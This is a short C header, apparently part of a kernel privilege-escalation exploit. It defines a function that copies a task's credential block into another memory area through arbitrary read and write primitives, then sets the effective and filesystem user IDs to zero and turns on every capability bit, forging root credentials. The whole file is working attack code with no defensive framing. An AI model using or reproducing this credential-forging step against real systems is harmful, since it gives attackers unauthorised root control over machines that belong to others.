// SPDX-License-Identifier: GPL-2.0-only
/* forged_seal.h - a task's seal in ordinary memory that names root. */
#pragma once
#include "attack.h"

#define SEAL_SIZE 1024 /* at least */
#define ALL_CAPABILITIES 0x1ffffffffff

/* The marks that the heap sets at the end of start-up: 1792 bytes. */
static uint64_t forge_seal(uint64_t seal)
{
	const uint64_t forged = symbol("marks"), credentials = member("task_seal.credentials");

	for (unsigned int i = 0; i < SEAL_SIZE; i += 8)
		poke(forged + i, peek(seal + i));
	poke32(forged + credentials + member("credentials.euid"), 0);
	poke32(forged + credentials + member("credentials.fsuid"), 0);
	poke(forged + credentials + member("credentials.capability_effective"), ALL_CAPABILITIES);
	return forged;
}
